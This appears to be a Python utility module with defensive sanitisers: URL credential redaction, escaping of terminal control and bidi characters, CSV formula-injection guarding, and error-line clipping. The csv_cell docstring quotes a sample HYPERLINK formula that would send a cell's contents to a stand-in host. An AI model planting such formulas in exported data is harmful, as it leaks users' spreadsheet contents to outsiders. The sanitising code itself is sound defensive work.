"""Text from outside made safe to keep or to print: credentials stripped from a URL before
it is recorded anywhere (provenance, snapshots, a served metadata graph), and control
characters escaped in remote text before it reaches a terminal (an endpoint's error body
may carry CR/LF to forge lines, or ANSI/OSC escape sequences that retitle, recolour or
rewrite the user's terminal).
"""
from __future__ import annotations

import re
import urllib.parse

# query parameters whose value is a secret: the lowercased name, - and _ ignored, ends with
# one of these (api_key, apikey, access_token, token, password, client_secret, sig, auth...)
_SECRET_PARAM = re.compile(r"(?:token|key|pass|password|passwd|pwd|secret|sig|signature|auth|authorization"
                           r"|credential|credentials|session|sessionid)$")
REDACTED = "REDACTED"
# C0 and C1 controls, DEL, and the Unicode line/paragraph separators and bidi overrides a
# terminal or log viewer may honour; tab is kept
_CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def strip_credentials(source: str) -> str:
    """``source`` with any password or token removed when it is a URL: the userinfo
    (``user:pass@``) is dropped and the value of every query parameter named like a secret
    (``token``, ``api_key``, ``password``, ``access_token``, ...) becomes ``REDACTED``.
    Anything that is not a URL with a scheme and a host is returned unchanged."""
    if "://" not in source:
        return source
    try:
        parts = urllib.parse.urlsplit(source)
        netloc = parts.netloc
    except ValueError:
        return _strip_userinfo_text(source)
    if "@" in netloc:
        netloc = netloc.rsplit("@", 1)[1]
    query = parts.query
    if query:
        pairs = urllib.parse.parse_qsl(query, keep_blank_values=True)
        if any(_is_secret(k) for k, _ in pairs):
            query = "&".join(f"{urllib.parse.quote(k, safe='')}=" + (REDACTED if _is_secret(k) else
                                                                       urllib.parse.quote(v, safe=''))
                             for k, v in pairs)
    fragment = parts.fragment
    return urllib.parse.urlunsplit((parts.scheme, netloc, parts.path, query, fragment))


def _is_secret(name: str) -> bool:
    return bool(_SECRET_PARAM.search(name.lower().replace("-", "").replace("_", "")))


def _strip_userinfo_text(source: str) -> str:
    return re.sub(r"(://)[^/?#\s]*@", r"\1", source)


def printable(text: str) -> str:
    """``text`` with every control character (CR, LF, ESC, BEL, C1 controls such as CSI,
    bidi overrides) written as a visible escape (``\\n``, ``\\x1b``, ``\\u202e``): one
    line that can neither forge further lines nor drive the terminal."""
    return _CONTROL.sub(_escape, text)


def _escape(m: re.Match) -> str:
    c = m.group()
    if c == "\n":
        return "\\n"
    if c == "\r":
        return "\\r"
    return f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}"


# what a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"); a cell that is a
# plain number ("-5", "+1.5e3") is no formula and stays as it is
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: text starting with ``= + - @``, a tab or a
    carriage return gets a leading ``'`` (OWASP's advice for CSV injection: Wikidata labels
    are editable by anyone, and ``=HYPERLINK("http://x/?leak="&A1)`` in a label would
    otherwise be a live formula); anything else, numbers included, is returned unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(cells) -> list:
    """:func:`csv_cell` of each cell."""
    return [csv_cell(c) for c in cells]


MAX_MESSAGE = 2_000  # characters of one error or warning line


def clip(text: str, limit: int = MAX_MESSAGE) -> str:
    """``text`` cut to ``limit`` characters, saying how much was left out: an error line
    that quotes its input stays one readable line (a 200,000-element list in a row once
    made a 1.6 MB error line)."""
    if len(text) <= limit:
        return text
    return f"{text[:limit]}... ({len(text) - limit:,} more characters)"


__all__ = ["strip_credentials", "printable", "csv_cell", "csv_row", "clip", "REDACTED"]
